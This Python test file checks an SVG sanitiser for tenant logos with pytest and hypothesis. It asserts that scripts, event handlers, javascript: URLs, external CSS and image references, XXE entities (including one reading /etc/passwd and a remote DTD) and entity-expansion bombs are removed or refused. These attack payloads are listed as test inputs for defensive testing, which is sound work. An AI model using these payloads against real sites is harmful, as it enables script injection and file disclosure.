"""SVG as it is kept: nothing in it acts or refers to elsewhere, and a real logo looks as before."""

import re
from xml.etree import ElementTree
from xml.sax.saxutils import escape, quoteattr

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from flomastr.tenancy.svg import MAX_BYTES, MAX_DEPTH, sanitised

SVG, XLINK, XHTML = "http://www.w3.org/2000/svg", "http://www.w3.org/1999/xlink", "http://www.w3.org/1999/xhtml"
EMPTY = f'<svg xmlns="{SVG}" />'

ACTING = {
    *("script", "style", "foreignObject", "iframe", "object", "embed", "audio", "video", "link", "meta", "base"),
    *("a", "image", "feImage", "animate", "set", "animateMotion", "animateTransform", "handler", "listener", "view"),
}


def svg(inside: str, attributes: str = "") -> str:
    return f'<svg xmlns="{SVG}" xmlns:xlink="{XLINK}"{attributes}>{inside}</svg>'


def plain(text: str) -> str:
    """What is kept of the picture, its ids as they were drawn."""
    return re.sub(r"logo-[0-9a-f]{12}-", "", sanitised(text))


def found_in(picture: str) -> list[str]:
    """What acts or refers to elsewhere, as the standard parser sees it."""
    assert "<!" not in picture and "<?" not in picture
    found: list[str] = []
    for element in ElementTree.fromstring(picture).iter():
        namespace, _, name = element.tag[1:].partition("}")
        if namespace != SVG or name in ACTING:
            found.append(element.tag)
        for attribute, value in element.attrib.items() - {("aria-label", element.get("aria-label"))}:  # which is text
            inside = re.sub(r"url\(\s*['\"]?#[\w.-]+['\"]?\s*\)", "", value)
            reaches_out = re.search(r"url|src\(|image|javascript|data:|https?|//|\\|expression|@import", inside, re.I)
            refers = attribute == "href" and not value.startswith("#")
            if "}" in attribute or attribute.startswith(("on", "style")) or refers or reaches_out:
                found.append(f"{attribute}={value}")
    return found


VANISHING = [  # of which nothing stays
    "<script>alert(1)</script>",
    '<script href="data:,alert(1)"/>',
    '<script xlink:href="//evil.test/x.js"/>',
    "<script><![CDATA[alert(1)]]></script>",
    f'<script xmlns="{XHTML}">alert(1)</script>',
    f'<h:script xmlns:h="{XHTML}">alert(1)</h:script>',
    f'<x:script xmlns:x="{SVG}">alert(1)</x:script>',
    '<script xmlns="urn:x">alert(1)</script>',
    '<path xmlns="urn:x" d="M0 0"/>',
    f'<foreignObject><body xmlns="{XHTML}"><img src="x" onerror="alert(1)"/></body></foreignObject>',
    f'<iframe xmlns="{XHTML}" src="javascript:alert(1)"/>',
    "<style>@import url(//evil.test/x.css);</style>",
    "<style>path{fill:url(https://evil.test/x)}</style>",
    '<a href="javascript:alert(1)"><text>click</text></a>',
    '<a xlink:href="javascript:alert(1)"><path d="M0 0"/></a>',
    '<image href="https://evil.test/x.png"/>',
    '<image xlink:href="data:image/svg+xml;base64,PHN2Zz4="/>',
    '<feImage href="https://evil.test/x"/>',
    '<filter id="f"><feImage href="https://evil.test/x"/></filter>',
    '<set attributeName="href" to="javascript:alert(1)"/>',
    '<animate attributeName="href" values="javascript:alert(1)"/>',
    '<animateTransform onbegin="alert(1)" attributeName="transform"/>',
    '<animateMotion path="M0 0"/>',
    '<handler type="text/ecmascript">alert(1)</handler>',
    "<SCRIPT>alert(1)</SCRIPT>",
    "<Path d='M0 0'/>",
    "<!-- <script>alert(1)</script> -->",
    "<?xml-stylesheet href='https://evil.test/x.css'?>",
    "<?php system('x') ?>",
]

STRIPPED = [  # of which the element stays, without that
    *('onload="alert(1)"', 'onclick="alert(1)"', 'ONLOAD="alert(1)"', 'onbegin="x"', "onmouseover='alert(1)'"),
    *('style="background:url(//evil.test)"', 'style="fill:url(//evil.test)"', 'STYLE="fill:red"', 'tabindex="1"'),
    *('class="a"', 'class="a:b"', 'style="fill"', 'style="onload:x;href:javascript:x"', 'style="fill:url(x;y)"'),
    *('href="javascript:alert(1)"', 'href="JaVaScRiPt:alert(1)"', 'href="&#106;avascript:alert(1)"', 'href="#"'),
    *('href="java&#10;script:alert(1)"', 'href=" #a"', 'href="data:image/svg+xml,x"', 'href="//evil.test#a"'),
    *('href="other.svg#a"', 'href=""', 'href="#a&#10;"', 'href="#a b"', 'href="#xpointer(id(1))"', 'href="/#a"'),
    *('xlink:href="https://evil.test/x.svg#a"', 'xlink:href="javascript:alert(1)"', 'xlink:actuate="onLoad"'),
    *('fill="url(https://evil.test/#a)"', 'fill="url(x.svg#a)"', 'fill="URL( x.svg#a )"', 'fill="url (x)"'),
    *('fill="url(#a) url(/x)"', "fill=\"url('#a) url(/x')\"", 'fill="u\\72l(/x)"', 'fill="url(&quot;/x&quot;)"'),
    *(
        "mask=\"image-set('/x' 1x)\"",
        "mask=\"-webkit-image-set('/x' 1x)\"",
        "mask=\"src('/x')\"",
        "mask=\"image('/x')\"",
    ),
    *('clip-path="url(data:x#a)"', 'stroke="expression(alert(1))"', 'fill="javascript:alert(1)"', 'd="&amp;#x6a;"'),
    *('xml:base="https://evil.test/"', 'xml:space="preserve"', f'xmlns:s="{SVG}" s:onload="alert(1)"'),
    *('attributeName="href"', 'from="javascript:x"', 'to="x"', 'filter="url(#a)"', 'cursor="url(/x),auto"'),
]


@pytest.mark.parametrize("attack", VANISHING)
@pytest.mark.parametrize("form", ["{}", "<g>{}</g>", "<defs><symbol id='s'>{}</symbol></defs>"])
def test_what_acts_is_dropped_with_all_that_is_in_it(attack: str, form: str) -> None:
    assert sanitised(svg(form.format(attack))) == sanitised(svg(form.format("")))


@pytest.mark.parametrize("attack", STRIPPED)
@pytest.mark.parametrize("element", ["path", "use", "g", "text"])
def test_an_attribute_that_acts_or_reaches_out_is_dropped(attack: str, element: str) -> None:
    assert sanitised(svg(f"<{element} {attack}/>")) == f'<svg xmlns="{SVG}"><{element} /></svg>'
    assert sanitised(svg("", f" {attack}")) == EMPTY


@pytest.mark.parametrize(
    "form",
    [
        "<text>{}</text>",
        "<title>{}</title>",
        '<path aria-label="{}"/>',
        '<path id="{}"/>',
        '<desc><title><g id="{}"/></title></desc>',
        "<text><![CDATA[</text><script>alert(1)</script>]]></text>",
        "<text><![CDATA[<img src=x onerror=alert(1)>]]></text>",
    ],
)
@pytest.mark.parametrize(
    "text", ["</title><script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "]]>", "--><b>"]
)
def test_text_stays_text(form: str, text: str) -> None:
    kept = sanitised(svg(form.replace("{}", escape(text, {'"': "&quot;"}))))
    assert not re.search(r"<(script|img|b|/title><s)", kept)
    assert found_in(kept) == []


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "text",
    [
        *("", " ", "logo", "{}", "<svg>"),
        *(svg("<g>"), svg("<g></path>")),
        svg('<path d="1" d="2"/>'),
        svg("<path onload=alert(1)>"),
        svg("&nbsp;"),
        svg("&#0;"),
        svg("\x01"),
        svg("\ud800"),
        svg("<x:y/>"),
        svg("") + svg(""),
        svg("") + "<script/>",
        "<svg></svg>",
        '<svg xmlns="urn:x"></svg>',
        f'<path xmlns="{SVG}"/>',
        f'<SVG xmlns="{SVG}"/>',
        f'<html xmlns="{XHTML}">{svg("")}</html>',
        "<!DOCTYPE html><html><body>hi</body></html>",
        f'<!DOCTYPE svg [<!ENTITY l0 "lol">{LAUGHS}]>' + svg("<text>&l9;</text>"),
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg("<text>&x;</text>"),
        '<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.test/x.dtd"> %x;]>' + svg(""),
    ],
)
def test_what_is_no_picture_is_refused(text: str) -> None:
    with pytest.raises(ValueError, match=r"is no SVG|surrogates"):
        sanitised(text)


def test_a_picture_may_have_200_000_bytes_and_no_more() -> None:
    room = MAX_BYTES - len(svg("<desc></desc>").encode())
    for filling in ("x" * room, "é" * (room // 2) + "x" * (room % 2)):
        fitting = svg(f"<desc>{filling}</desc>")
        assert len(fitting.encode()) == MAX_BYTES
        assert filling in sanitised(fitting)
        with pytest.raises(ValueError, match="larger than 200,000 bytes"):
            sanitised(svg(f"<desc>{filling}x</desc>"))


def test_a_picture_that_grows_beyond_its_bound_in_writing_is_refused() -> None:
    with pytest.raises(ValueError, match="larger than 200,000 bytes"):
        sanitised(svg(f"<desc>{'>' * 60_000}</desc>"))


def test_groups_may_be_nested_as_deep_as_people_draw_and_no_deeper() -> None:
    assert sanitised(svg("<g>" * MAX_DEPTH + "</g>" * MAX_DEPTH)).count("<g") == MAX_DEPTH
    for depth in (MAX_DEPTH + 1, 28_000):
        with pytest.raises(ValueError, match="nested too deeply"):
            sanitised(svg("<g>" * depth + "</g>" * depth))


LOGOS = {
    "gradients": """<defs>
      <linearGradient id="a" x1="0" x2="1" gradientTransform="rotate(45)" gradientUnits="userSpaceOnUse">
        <stop offset="0%" stop-color="#0052cc" stop-opacity=".5" /><stop offset="1" stop-color="rgb(0, 0, 0)" />
      </linearGradient><radialGradient id="b" cx="5" cy="5" r="5" fx="4" fy="4" spreadMethod="pad" href="#a" />
      </defs><circle cx="5" cy="5" r="4" fill="url(#a)" stroke="url('#b')" stroke-width="2" />""",
    "clips": """<clipPath id="c.1"><rect width="10" height="10" rx="2" /></clipPath>
      <mask id="m-1"><ellipse rx="3" ry="2" /></mask>
      <g clip-path="url(#c.1)" mask="url( #m-1 )" opacity="0.5"><polygon points="0,0 10,0 5,8" /></g>""",
    "text": """<title>Acme &amp; Sons</title><desc>1 &lt; 2</desc>
      <text x="1" y="2" font-family="'Open Sans', sans-serif" font-size="12" text-anchor="middle" letter-spacing="1">
      Ac<tspan dx="1" font-weight="bold">me</tspan> ™</text>""",
    "uses": """<symbol id="s" viewBox="0 0 1 1"><path d="M0 0h1v1H0z" /></symbol>
      <use href="#s" transform="translate(1 2) scale(-1, 1) rotate(45 5 5) matrix(1 0 0 1 0 0)" width="5" />""",
    "pattern": """<pattern id="p" width="4" height="4" patternUnits="userSpaceOnUse" patternTransform="skewX(10)">
      <path d="M0,0 C1.5,2e-3 3,3 4,4" fill="none" stroke="currentColor" stroke-dasharray="1 2" /></pattern>
      <rect width="8" height="8" fill="url(#p) #fff" fill-rule="evenodd" />""",
    "lines": '<line x1="0" x2="9" stroke="red" /><polyline points="0 0 1 1" fill="none" stroke-linejoin="bevel" />',
}


@pytest.mark.parametrize("logo", LOGOS.values(), ids=LOGOS)
def test_a_real_logo_stays_as_it_is(logo: str) -> None:
    drawn = f'<svg xmlns="{SVG}" viewBox="0 0 10 10" width="100%" role="img" aria-label="Acme: logo">\n  {logo}\n</svg>'
    assert plain(drawn) == drawn
    assert plain(f'<?xml version="1.0" encoding="UTF-8"?>\n<!-- by hand -->\n{drawn}\n') == drawn


def test_text_around_what_is_dropped_stays() -> None:
    text = f'<svg xmlns="{SVG}"><text>a<a>b</a>c<tspan>d</tspan>e<a>f</a>g</text></svg>'
    assert sanitised(text) == f'<svg xmlns="{SVG}"><text>ac<tspan>d</tspan>eg</text></svg>'


def test_a_picture_draws_its_parts_again_twenty_times_and_no_more() -> None:
    twenty = f'<svg xmlns="{SVG}">{"<use />" * 20}</svg>'
    assert sanitised(twenty) == twenty
    with pytest.raises(ValueError, match="more than 20"):
        sanitised(twenty.replace("</svg>", "<use /></svg>"))


@pytest.mark.parametrize(("element", "attribute"), [("mask", "mask"), ("clipPath", "clip-path"), ("pattern", "fill")])
def test_what_is_applied_refers_to_gradients_and_to_nothing_that_is_drawn(element: str, attribute: str) -> None:
    gradient = '<linearGradient id="light" /><path id="shape" />'
    inside = '<path {0}="url(#b)" /><g {0}="url(\'#shape\')" /><use href="#shape" /><path fill="url(#light)" />'
    picture = f'<svg xmlns="{SVG}">{gradient}<{element} id="a">{inside.format(attribute)}</{element}>' + (
        f'<{element} id="b" /><path {attribute}="url(#a)" /></svg>'
    )
    expected = '<path /><g /><use /><path fill="url(#light)" />'
    assert plain(picture) == picture.replace(inside.format(attribute), expected)


def test_declarations_of_style_become_attributes_where_they_are_harmless() -> None:
    picture = f'<svg xmlns="{SVG}"><path style="fill: red;stroke:url(//x);behavior:url(#a);x" /></svg>'
    assert sanitised(picture) == f'<svg xmlns="{SVG}"><path fill="red" /></svg>'
    both = f'<svg xmlns="{SVG}"><path fill="blue" style="fill:red" /></svg>'
    assert sanitised(both) == f'<svg xmlns="{SVG}"><path fill="red" /></svg>'


def test_a_doctype_is_passed_over_and_entities_are_refused() -> None:
    plain = f'<svg xmlns="{SVG}"><path /></svg>'
    public = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    attribute = '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>'
    for doctype in ("<!DOCTYPE svg>", public, attribute):
        assert sanitised(doctype + plain) == plain
    with pytest.raises(ValueError, match="declares no entities"):
        sanitised('<!DOCTYPE svg [<!ENTITY a "b">]>' + plain)


def test_names_of_namespaces_do_not_matter() -> None:
    prefixed = f'<s:svg xmlns:s="{SVG}" xmlns:l="{XLINK}"><s:use l:href="#a" /></s:svg>'
    assert plain(prefixed) == f'<svg xmlns="{SVG}"><use href="#a" /></svg>'


DRAWN = f"""<svg xmlns="{SVG}" aria-labelledby="name what" id="app"><title id="name">A</title>
<desc id="what" />
<linearGradient id="a.1" /><radialGradient id="b" href="#a.1" /><symbol id="s" /><use href="#s" />
<path fill="url(#a.1) #fff" stroke="url( '#b' )" aria-label="url(#b)" aria-describedby="what" /></svg>"""
PREFIXED = f"""<svg xmlns="{SVG}" aria-labelledby="X-name X-what" id="X-app"><title id="X-name">A</title>
<desc id="X-what" />
<linearGradient id="X-a.1" /><radialGradient id="X-b" href="#X-a.1" /><symbol id="X-s" /><use href="#X-s" />
<path fill="url(#X-a.1) #fff" stroke="url( '#X-b' )" aria-label="url(#b)" aria-describedby="X-what" /></svg>"""


def prefix_of(picture: str) -> str:
    (prefix,) = set(re.findall(r"logo-[0-9a-f]{12}-", picture))
    return prefix


def test_ids_and_all_that_refers_to_them_are_the_pictures_own() -> None:
    picture = sanitised(DRAWN)
    assert picture.replace(prefix_of(picture), "X-") == PREFIXED


def test_the_same_picture_has_the_same_ids_and_another_one_has_others() -> None:
    picture = sanitised(DRAWN)
    assert sanitised(DRAWN) == sanitised(picture) == picture
    assert prefix_of(sanitised(DRAWN.replace("#fff", "#000"))) != prefix_of(picture)


@pytest.mark.parametrize("id", ["app", "logo-0123456789ab-app", "&#108;ogo-0123456789ab-app", "", " app "])
def test_no_id_is_as_it_was_sent(id: str) -> None:
    picture = sanitised(svg(f'<path id="{id}" aria-labelledby="{id}"/>'))
    (path,) = ElementTree.fromstring(picture)
    assert re.match(r"logo-[0-9a-f]{12}-", path.get("id", ""))
    assert "0123456789ab" not in prefix_of(picture.replace("-logo-0123456789ab-", "-"))
    assert all(name.startswith("logo-") for name in path.get("aria-labelledby", "").split())


def test_a_prefix_that_is_taken_away_hides_no_chain_of_what_is_applied() -> None:
    picture = svg('<path id="logo-0123456789ab-shape"/><mask id="a"><use href="#shape"/></mask><path mask="url(#a)"/>')
    assert "<use />" in sanitised(picture)


NAMES = st.sampled_from([*sorted(ACTING), "g", "path", "text", "use", "svg", "title", "x:g", "x:script"])
VALUES = st.sampled_from(["#a", "url(#a)", "url(#a) url(x)", "javascript:x", "//x", "data:,x", "1"]) | st.text(
    "ab:/\\(#'\" url", max_size=9
)
KEYS = st.sampled_from(
    ["href", "aria-labelledby", "xlink:href", "fill", "onload", "style", "mask", "id", "d", "x:fill", "aria-label"]
)
TEXTS = st.text(st.characters(codec="utf-8", categories=["L", "P", "S", "Zs"], include_characters="\n\t"), max_size=5)


def element(name: str, attributes: dict[str, str], inside: list[str], text: str) -> str:
    written = "".join(f" {key}={quoteattr(value)}" for key, value in attributes.items())
    return f"<{name}{written}>{escape(text)}{''.join(inside)}</{name}>{escape(text)}&#13;"


TREES = st.recursive(
    TEXTS.map(escape),
    lambda children: st.builds(
        element, NAMES, st.dictionaries(KEYS, VALUES, max_size=3), st.lists(children, max_size=3), TEXTS
    ),
    max_leaves=8,
)


@settings(max_examples=200, deadline=None, derandomize=True)
@given(TREES)
def test_of_any_picture_nothing_acts_and_doing_it_twice_changes_nothing(tree: str) -> None:
    idempotent = sanitised(svg(tree, ' xmlns:x="urn:x"'))
    assert found_in(idempotent) == []
    assert sanitised(idempotent) == idempotent
